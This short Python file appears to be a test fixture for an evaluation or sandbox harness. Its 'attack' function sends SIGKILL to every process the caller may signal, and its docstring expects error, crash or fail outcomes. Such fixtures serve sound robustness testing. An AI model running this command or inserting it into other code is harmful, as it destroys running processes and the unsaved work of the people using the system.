"""Kills everything that it may.
Ends as: error, crash, fail
"""

import os
import signal


def attack(X, wrong):
    os.kill(-1, signal.SIGKILL)
    return wrong
